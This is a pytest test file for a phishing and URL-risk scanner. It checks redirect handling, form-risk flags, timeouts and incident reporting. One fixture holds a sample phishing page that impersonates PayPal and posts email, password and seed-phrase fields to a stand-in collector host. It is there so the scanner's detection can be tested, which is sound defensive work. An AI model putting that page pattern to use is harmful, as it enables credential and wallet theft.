import logging

import pytest

from webwatcher.app.scanner import analyze_url, scan_url
from webwatcher.config import Settings
from webwatcher.errors import FetchFailed, InvalidInput
from webwatcher.models import Severity

from fakes import FakeFetcher, FakeResolver, StaticSource, make_context, page, redirect

LANDING = "https://totally-not-paypal.example/login"
PHISH_HTML = """
<html><body>
<h1>Sign in to PayPal</h1>
<form action="https://collector.evil.example/submit" method="post">
  <input type="email" name="email">
  <input type="password" name="password">
  <input name="seed phrase">
</form>
</body></html>
"""


def _phish_context(**kwargs):
    fetcher = FakeFetcher({
        "https://promo.example/": redirect("https://promo.example/", LANDING, status=302),
        LANDING: page(LANDING, PHISH_HTML),
    })
    resolver = FakeResolver({("totally-not-paypal.example", "A"): ["192.0.2.44"]})
    sources = kwargs.pop("sources", [
        StaticSource("reputation", result={"flags": [], "riskScore": 0}),
        StaticSource("whois", target_kind="domain",
                     result={"flags": ["newly_registered_domain"], "riskScore": 40}),
        StaticSource("ip_risk", target_kind="ip", result={"flags": [], "riskScore": 0}),
    ])
    return make_context(fetcher=fetcher, resolver=resolver, sources=sources, **kwargs)


@pytest.mark.parametrize("bad", ["", "   ", "ftp://files.example/", "user@example.com", "https://", "http://exa mple.com"])
def test_invalid_input_is_fatal(bad):
    with pytest.raises(InvalidInput):
        analyze_url(bad, make_context())


def test_invalid_email_is_fatal():
    with pytest.raises(InvalidInput):
        analyze_url("https://a.example/", make_context(), email="not-an-email")


def test_components_run_against_resolved_url():
    ctx = _phish_context()
    results = analyze_url("https://promo.example/", ctx)

    assert results.final_url == LANDING
    assert len(results.redirect_analysis.chain) == 2
    assert "brand_impersonation_paypal" in results.page_content.flags
    assert results.form_risks[0].flags == [
        "cross_domain_form_submission", "password_field", "seed_phrase_collection"]
    assert results.form_risks[0].risk_score == 100
    assert "missing_hsts" in results.tls_audit.flags
    assert sorted(results.threat_intel) == ["ip_risk", "reputation", "whois"]
    assert ctx.intel_sources[2].seen == ["192.0.2.44"]
    assert results.inconclusive == {}


def test_schemeless_input_defaults_to_https():
    ctx = make_context(fetcher=FakeFetcher(default=page("https://a.example/", "<html></html>")))
    results = analyze_url("a.example", ctx)
    assert results.url == "https://a.example"


def test_failed_branches_become_inconclusive():
    url = "https://down.example/"
    ctx = make_context(fetcher=FakeFetcher({url: FetchFailed("refused")}),
                       resolver=FakeResolver(fail=True))
    results = analyze_url(url, ctx)

    assert results.inconclusive["redirect"] == "FETCH_FAILED"
    assert results.inconclusive["page_content"] == "FETCH_FAILED"
    assert results.inconclusive["form_risk"] == "FETCH_FAILED"
    assert results.form_risks == []
    assert results.tls_audit is not None
    assert "tls_security.headers" in results.inconclusive


def test_slow_branch_times_out_without_blocking_the_scan():
    settings = Settings(branch_timeout=0.3, intel_timeout=5.0)
    ctx = _phish_context(settings=settings, sources=[StaticSource("reputation", delay=2.0)])
    results = analyze_url("https://promo.example/", ctx)

    assert results.inconclusive["threat_intel"] == "FETCH_FAILED"
    assert results.threat_intel == {}
    assert results.page_content is not None


def test_scan_url_scores_and_reports(service, caplog):
    caplog.set_level(logging.INFO, logger="scanner")
    ctx = _phish_context(sources=[
        StaticSource("reputation", result={"flags": ["phishing_feed_listed"], "riskScore": 90}),
    ])
    outcome = scan_url("https://promo.example/", service, ctx, metadata={"source_ip": "203.0.113.5"})

    assert outcome.risk.severity == Severity.CRITICAL
    assert outcome.incident.category == "phishing"
    assert outcome.incident.metadata["source_ip"] == "203.0.113.5"
    assert service.get_recent_incidents(1)[0].id == outcome.incident.id
    messages = [r.getMessage() for r in caplog.records if r.name == "scanner"]
    assert [m.split(":")[0] for m in messages] == ["collecting", "scored", "reported"]
